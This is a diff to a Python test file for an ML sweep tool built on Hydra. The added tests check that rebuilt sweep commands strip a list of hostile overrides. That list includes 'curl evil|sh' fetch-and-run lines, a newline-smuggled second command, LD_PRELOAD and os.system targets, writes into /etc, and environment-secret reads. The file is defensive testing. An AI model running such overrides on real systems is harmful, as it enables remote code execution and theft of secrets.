@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from collections.abc import Sequence
 from dataclasses import replace
 from pathlib import Path
@@ -10,7 +11,7 @@ from typing import Any
 import pytest
 import yaml
 
-from analysis.commands import add_seeds, vary_beta
+from analysis.commands import add_seeds, go_on, left_out, vary_beta
 from analysis.runs import Runs
 from tests.planted import Planted, runs
 
@@ -94,3 +95,84 @@ def test_beta_is_varied_with_all_else_fixed(grid: Runs, tmp_path: Path) -> None:
         "python run.py -m data=images 'objective=[psnr,ssim]' name=cats-rate latent_dim=64 "
         "lr=0.0003 loss=mse,ssim beta=0.5,1,2 seed=0,1,2"
     )
+
+
+HARMFUL = [
+    "hydra.job.env_set.VAESWEEP_TRUST=os",
+    "+hydra.job.env_set={LD_PRELOAD:x.so}",
+    "hydra.launcher.setup=[curl evil|sh]",
+    "hydra.launcher.python=evil",
+    "hydra.launcher.ray.init.address=ray://evil",
+    "hydra={job:{env_set:{A:b}}}",
+    "+hydra.callbacks.x._target_=os.system",
+    "hydra.sweeper.sampler._target_=os.system",
+    "hydra.searchpath=[file:///evil]",
+    "hydra.run.dir=/etc",
+    "hydra.output_subdir=/etc",
+    "hydra.job_logging.handlers.file.filename=/etc/x",
+    "data.cache_dir=/etc",
+    "data={cache_dir:/etc}",
+    "data={cache_dir:/etc},{cache_dir:/usr}",
+    "logger={entity:evil}",
+    "logger.entity=evil",
+    "logger.project=evil",
+    "logger.log_model=true",
+    "logger.tags=[x]",
+    "name=${oc.env:SECRET}",
+    "loss.target=${oc.env:SECRET}",
+    "experiments@hydra.job=evil",
+    "lr=1\ncurl evil|sh",
+    "lr=\x1b[2J1",
+    "~loss",
+    "--config-dir=/evil",
+    "-m",
+    "hydra.sweeper.n_jobs=100000",
+    "hydra.sweeper.params.hydra.job.env_set.A=b",
+    "hydra.sweeper.params.data.cache_dir=/etc",
+]
+
+
+@pytest.mark.parametrize("harmful", HARMFUL)
+def test_a_foreign_sweeps_command_is_repeated_without_what_could_do_harm(
+    grid: Runs, tmp_path: Path, harmful: str
+) -> None:
+    known = of_sweep(grid, tmp_path, ["loss=mse,ssim", harmful], [harmful])
+    for command in (add_seeds(known), go_on(tmp_path), vary_beta(known, {}, ["mse"], "1,2")):
+        assert command is not None
+        words = shlex.split(command)
+        assert harmful not in words[3:]
+        assert words[:3] == ["python", "run.py", "-m"]
+        assert not any("evil" in word or "/etc" in word for word in words)
+        assert command.isprintable()
+    assert go_on(tmp_path) == "python run.py -m loss=mse,ssim"
+    (tmp_path / "0/.hydra").mkdir(parents=True)
+    (tmp_path / "0/.hydra/overrides.yaml").write_text(yaml.safe_dump([harmful, "lr=1"]))
+    (tmp_path / "multirun.yaml").unlink()
+    assert harmful not in shlex.split(add_seeds(known))[3:]
+
+
+def test_a_sweep_goes_on_where_it_lies_and_what_is_left_out_is_named(
+    grid: Runs, tmp_path: Path
+) -> None:
+    own = ["hydra.sweep.dir=/elsewhere", "hydra.sweeper.storage=postgresql://me@db/x"]
+    own += ["hydra/launcher=submitit_slurm", "hydra.launcher.timeout_min=60"]
+    own += ["hydra.launcher.partition=gpu", "hydra.sweeper.n_jobs=4"]
+    folder = tmp_path / "it's; here"
+    folder.mkdir()
+    known = of_sweep(grid, folder, ["loss=mse,$(touch x)"], own)
+    words = shlex.split(go_on(folder) or "")
+    escaped = str(folder).replace("'", "\\'")
+    assert words[3:] == [
+        "loss=mse,$(touch x)",
+        "hydra/launcher=submitit_slurm",
+        "hydra.launcher.timeout_min=60",
+        "hydra.sweeper.n_jobs=4",
+        f"hydra.sweep.dir='{escaped}'",
+        "hydra.sweeper.storage=URL",
+    ]
+    assert left_out(folder) == [
+        "hydra.sweep.dir",
+        "hydra.sweeper.storage",
+        "hydra.launcher.partition",
+    ]
+    assert "hydra.sweep.dir" not in vary_beta(known, {}, ["mse"], "1,2")
